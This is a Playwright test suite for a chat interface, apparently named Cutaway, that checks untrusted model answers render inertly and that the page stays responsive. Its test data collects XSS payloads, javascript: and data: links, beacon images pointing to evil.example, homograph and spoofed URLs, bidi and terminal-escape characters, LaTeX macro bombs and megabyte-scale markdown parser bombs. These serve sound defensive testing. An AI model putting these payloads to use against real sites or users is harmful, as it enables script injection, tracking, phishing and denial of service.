"""Answers that would like to do something to their reader: all of them are only text."""

# ruff: noqa: E501  (what attacks is written as it comes, in one line)

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.timeout(300)

MARKUP = """<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><animate onbegin=alert(1)></svg>

<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input autofocus onfocus=alert(1)><button>Send</button></form>

<style>* {display: none}</style><link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>

<p style="position:fixed;inset:0">over the page</p><a href="javascript:alert(1)">x</a><meta http-equiv=refresh content="0;url=http://evil.example">
"""

LINKS = """[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](data:text/html,<script>alert(1)</script>)
[e](vbscript:msgbox(1)) [f](  javascript:alert(1)) [g](<javascript:alert(1)>) [h][h] [i](file:///etc/passwd) [j](/api/models) [k](?system=x)
[l](//evil.example/x) [m](blob:http://evil.example/1) [n](view-source:http://x) <javascript:alert(1)> <data:text/html,x>

[h]: javascript:alert(1)
"""

PICTURES = """![](http://evil.example/beacon.png) ![see](https://evil.example/b?q=secret) ![][r] ![d](data:image/svg+xml,<svg onload=alert(1)>)
[![in a link](http://evil.example/1.png)](http://evil.example/2)

![own](/api/models)

[r]: http://evil.example/reference.png
"""

FORMULAS = r"""$\href{javascript:alert(1)}{x}$ $\href{http://evil.example}{y}$ $\url{http://evil.example}$ $\includegraphics{http://evil.example/x.png}$
$\htmlClass{button full}{x}$ $\htmlId{main}{x}$ $\htmlStyle{position:fixed;inset:0}{x}$ $\htmlData{copy=1}{x}$
$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\b$ $\newcommand{\x}{\x\x}\x$ $\gdef\e#1{\e{#1#1}}\e{x}$
$\fcolorbox{red}{blue}{$x$}$ $\pmb{x}$ $\colorbox{red}{y}$ $\rule{9999em}{9999em}$ $x\kern-9999em y$ $\raisebox{9999em}{z}$ $\verb|<img src=x onerror=alert(1)>|$
$\text{<script>alert(1)</script>}$ $</math><img src=x onerror=alert(1)>$ $\unicode{x202e}$ $\frac{1}{$ ${{{{{{{{{{$

$$
\begin{matrix} <b onclick=alert(1)> \end{matrix}
$$
"""

TRICKS = (
    "# <b>x</b>\n\n```html onload=alert(1) class=button\n</code></pre><script>alert(1)</script>\n```\n\n"
    '``` "><img/src=x/onerror=alert(1)>\nx\n```\n\n`<img src=x onerror=alert(1)>` &lt;img src=x onerror=alert(1)&gt; '
    "&#60;script&#62;alert(1)&#60;/script&#62; {@html 1} {{constructor.constructor('alert(1)')()}} ${alert(1)}\n\n"
    '| <b>a</b> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1) "t" onmouseover=alert(1)) |\n\n'
    '[x](http://evil.example/"onmouseover="alert(1)) [y](http://evil.example "title\\" onmouseover=alert(1)")\n'
)

HIDDEN = (
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x00\x08\x9b2J "
    "\u202ecod.exe\u202c \u2066x\u2069 \u200fy \U000e0041\U000e0042 *\u202estressed*\n\n```\n\u202ecode\x1b[2J\n```\n\n- \u202eitem `\u2067x`\n"
)

EVERYTHING = {
    "markup": MARKUP,
    "links": LINKS,
    "pictures": PICTURES,
    "formulas": FORMULAS,
    "tricks": TRICKS,
    "hidden": HIDDEN,
}

ELEMENTS = set(
    "a annotation bdi blockquote br button code details div em h4 h5 h6 hr li math ol p pre s semantics span strong summary "
    "table tbody td th thead tr ul menclose merror mfrac mi mn mo mover mpadded mphantom mroot mrow ms mspace msqrt mstyle "
    "msub msubsup msup mtable mtd mtext mtr munder munderover".split()
)
ATTRIBUTES = set(
    "class id data-index data-copy href target rel start tabindex role aria-label aria-activedescendant type".split()
)
"""What is not of MathML may have."""


@pytest.fixture
def live(serve_live: Any) -> Any:
    live = serve_live()
    live.lm.config.context = 3_000_000
    return live


def ask(page: Page, live: Any, answer: str, question: str = "go on", seconds: float = 20) -> None:
    live.lm.script = lambda _: answer
    page.goto(f"{live.url}/?max_tokens=all&temperature=0")
    page.get_by_label("Question", exact=True).fill(question)
    page.keyboard.press("Enter")
    expect(page.locator("article.answer .figures")).to_have_count(1, timeout=seconds * 1000)


def inert(page: Page) -> list[str]:
    """What in the conversation is not among the elements and attributes that it may have."""
    found = page.evaluate(
        """() => [...document.querySelectorAll('article :is(.reply, .prose), article :is(.reply, .prose) *')].flatMap((each) => [
            [each.localName, '', ''],
            ...[...each.attributes].map((a) => [each.localName, a.name, a.value, each.namespaceURI.includes('Math')]),
        ])"""
    )
    wrong: list[str] = []
    for name, attribute, value, *math in found:
        if name not in ELEMENTS:
            wrong.append(f"<{name}>")
        if attribute and not (math[0] or attribute in ATTRIBUTES):
            wrong.append(f"<{name} {attribute}={value}>")
        if (
            attribute.startswith("on")
            or attribute in ("style", "src", "xlink:href")
            or (math and math[0] and attribute == "href")
        ):
            wrong.append(f"<{name} {attribute}={value}>")
        if attribute == "href" and not value.startswith(("http://", "https://", "mailto:")):
            wrong.append(f"<{name} {attribute}={value}>")
    return wrong


@pytest.mark.parametrize("name", EVERYTHING)
@pytest.mark.parametrize("streamed", [False, True])
def test_inert(page: Page, live: Any, name: str, streamed: bool) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog: {dialog.message}"))
    live.lm.seconds_a_token = 0.004 if streamed else 0
    ask(page, live, EVERYTHING[name], question=EVERYTHING[name], seconds=60)
    if name == "formulas":
        expect(page.locator("article.answer math").first).to_be_visible()
    page.wait_for_timeout(400)
    assert inert(page) == []
    # A pointer over all of it, a click on every button, and the other view.
    for each in page.locator("article.answer .reply :is(.token, button, a, math)").all()[:40]:
        each.dispatch_event("mouseover")
        each.dispatch_event("focus")
    page.get_by_role("button", name="As tokens").last.click()
    page.get_by_role("button", name="Tokens", exact=True).first.click()
    page.wait_for_timeout(200)
    assert page.locator("main img, main script, main style, main iframe, main svg[onload]").count() == 0
    assert [url for url in asked if not url.startswith(live.url)] == []
    assert len([url for url in asked if url.endswith("/api/models")]) <= 1
    assert page.url.startswith(live.url)
    assert page.evaluate("document.title") == "Cutaway"


def test_links_tell_where_they_lead(page: Page, live: Any) -> None:
    text = (
        "[paypal.com](https://p\u0430ypal.com/login) [gmail](https://google.com@evil.example/) https://\u0430pple.com/ "
        "[safe](https://example.org/a) <https://example.org/> [mail](mailto:a@b.example) [x](http://evil.example%5C@good.example)"
    )
    ask(page, live, text)
    links = page.locator("article.answer a")
    expect(links).to_have_count(7)
    assert links.all_text_contents() == [
        "paypal.com xn--pypal-4ve.com", "gmail evil.example", "https://\u0430pple.com/ xn--pple-43d.com",
        "safe example.org", "https://example.org/", "mail a@b.example", "x good.example",
    ]  # fmt: skip
    for each in links.all():
        assert each.get_attribute("rel") == "noopener noreferrer"
        assert each.get_attribute("target") == "_blank"
        assert "@evil" not in (each.get_attribute("href") or "")


def test_what_hides_is_shown_by_its_number(page: Page, live: Any) -> None:
    ask(page, live, HIDDEN)
    said = page.locator("article.answer .reply")
    text = said.inner_text()
    assert not [c for c in text if ord(c) < 32 and c not in "\n\t"]
    assert not set(text) & set("\u202e\u202c\u2066\u2067\u2069\u200f\U000e0041\x9b")
    assert text.count("\u2039U+202E\u203a") == 4
    assert "\u2039U+001B\u203a[31mred" in text
    page.get_by_role("button", name="As tokens").last.click()
    expect(page.locator("article.answer .reply.tokens")).to_be_visible()
    assert not set(said.inner_text()) & set("\u202e\u202c\u2066\u2067\u2069\u200f\x1b\x9b")


def test_nothing_is_drawn_beyond_its_answer(page: Page, live: Any) -> None:
    ask(page, live, r"$x\kern-99em y$ $\raisebox{99em}{z}$ $\rule{9999em}{9999em}$ words")
    expect(page.locator("article.answer math").first).to_be_attached()
    assert page.evaluate("getComputedStyle(document.querySelector('.reply .prose')).contain") == "paint"
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


BOMBS = {
    "words": "word " * 200_000,
    "one line": "a" * 1_000_000,
    "stars": "*a _b " * 160_000,
    "brackets": "[" * 500_000 + "](x)" * 100_000,
    "quotes": "> " * 500_000,
    "lists": "".join("  " * depth + "- x\n" for depth in range(900)),
    "ticks": "".join("`" * n + " " for n in range(1400)),
    "dollars": "$a " * 330_000,
    "formulas": "".join(f"$x^{n}$\n\n" for n in range(3_000)),
    "links": "[x](http://a.example) " * 45_000,
    "tables": "|" * 400_000 + "\n" + "|-" * 200_000 + "\n",
    "entities": "&amp;" * 200_000,
    "code": "```\n" + "x = 1\n" * 160_000,
    "references": "".join(f"[r{n}]: http://a.example/{n}\n" for n in range(30_000)),
}


@pytest.mark.parametrize("name", BOMBS)
def test_an_answer_of_a_megabyte(page: Page, live: Any, name: str) -> None:
    """The page stays quick: it is told as the server's events, of long tokens, so that the server is not what is tried."""
    text = BOMBS[name]
    size = 4096
    tokens = [
        {"id": 1, "text": part, "bytes": "61", "whole": True, "mark": False, "adds": part, "part": "answer",
         "forced": False, "logprob": -1.0, "alternatives": []}
        for part in (text[at : at + size] for at in range(0, len(text), size))
    ]  # fmt: skip

    def event(kind: str, data: object) -> str:
        return f"event: {kind}\ndata: {json.dumps(data)}\n\n"

    body = event("start", {"prompt_tokens": 5, "context": 3_000_000}) + "".join(event("token", t) for t in tokens)
    body += event("done", {"finish": "stop", "tokens": len(tokens), "seconds": 1.0})
    page.route("**/api/chat", lambda route: route.fulfill(content_type="text/event-stream", body=body))
    page.get_by_label("Question", exact=True).fill("go on")
    began = time.monotonic()
    page.keyboard.press("Enter")
    expect(page.locator("article.answer .figures")).to_have_count(1, timeout=60_000)
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    took = time.monotonic() - began
    assert inert(page) == []
    assert took < 30, f"{len(text):,} characters took {took:.1f} s"
    # The conversation can go on: it is not too long a text to be asked about.
    expect(page.locator(".context")).to_contain_text("of 3,000,000 tokens")
